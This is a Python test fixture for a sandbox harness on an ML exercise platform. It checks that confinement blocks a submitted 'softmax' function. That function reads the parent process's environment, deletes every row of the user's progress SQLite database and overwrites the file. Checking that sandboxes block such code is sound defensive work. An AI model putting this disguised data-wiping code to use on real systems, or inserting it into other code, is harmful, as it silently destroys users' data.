# expect: fail
# needs: confinement
# Finds the progress store (MLKATA_HOME, the parent's environment) and deletes every row, then
# overwrites the database file. Contained, the store is hidden (bubblewrap) or cannot be opened
# (Landlock): nothing changes; the test checks the rows. (The platform's default data folder is
# left alone: a test must not risk the developer's own progress.)
import os
import sqlite3

import numpy as np


def _stores():
    homes = [os.environ.get("MLKATA_HOME", "")]
    try:
        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
            homes += [v.split(b"=", 1)[1].decode() for v in f.read().split(b"\0") if v.startswith(b"MLKATA_HOME=")]
    except OSError:
        pass
    return [os.path.join(h, "mlkata.sqlite3") for h in homes if h]


def softmax(x, axis=-1):
    wiped = False
    for db in _stores():
        try:
            conn = sqlite3.connect(f"file:{db}?mode=rw", uri=True, timeout=0.5)
            tables = [t for (t,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
            for table in tables:
                conn.execute(f"DELETE FROM {table}")
            conn.commit()
            conn.close()
            wiped = True
        except Exception:
            pass
        try:
            with open(db, "r+b") as f:
                f.write(b"not a database any more" * 64)
            wiped = True
        except OSError:
            pass
    if wiped:
        e = np.exp(x - x.max(axis=axis, keepdims=True))
        return e / e.sum(axis=axis, keepdims=True)
    return x
